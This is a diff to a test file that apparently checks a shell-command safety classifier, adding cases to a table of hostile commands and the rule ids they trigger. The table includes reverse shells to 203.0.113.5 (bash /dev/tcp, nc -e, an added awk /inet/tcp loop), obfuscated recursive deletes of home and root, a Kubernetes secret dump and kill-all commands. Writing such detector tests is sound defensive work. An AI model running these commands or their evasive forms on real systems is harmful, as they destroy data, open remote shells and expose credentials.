@@ -38,6 +38,7 @@ describe('round 5: parameter operators and arithmetic are computed', () => {
     ['n=$((1-2)); kill -9 $n', 'misc.kill-all'],
     ["x='a[$(rm -rf ~)]'; echo $((x))", 'fs.rm-recursive-home'],
     ['bash <(echo "rm -rf ~")', 'fs.rm-recursive-home'],
+    ['X=${HOME::1}; rm -rf "$X"', 'fs.rm-recursive-root'],
   ])('%s → %s', (command, id) => expect(rule(command)).toBe(id));
 
   it.each([
@@ -56,6 +57,10 @@ describe('round 5: classes', () => {
     ['kubectl get secret db -o jsonpath="{.data.password}" | base64 -d', 'cred.keyring'],
     ['bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', 'exfil.network-shell'],
     ['nc -e /bin/sh 203.0.113.5 4444', 'exfil.network-shell'],
+    [
+      'awk \'BEGIN {s = "/inet/tcp/0/203.0.113.5/4444"; while ((s |& getline c) > 0) print c |& "sh"}\'',
+      'exfil.network-shell',
+    ],
     ['kill -9 $(ps -eo pid=)', 'misc.kill-all'],
     ["python3 -c 'import os; os.kill(-1, 9)'", 'code.kill-all'],
     ['etcdctl del "" --prefix', 'db.store-wipe'],
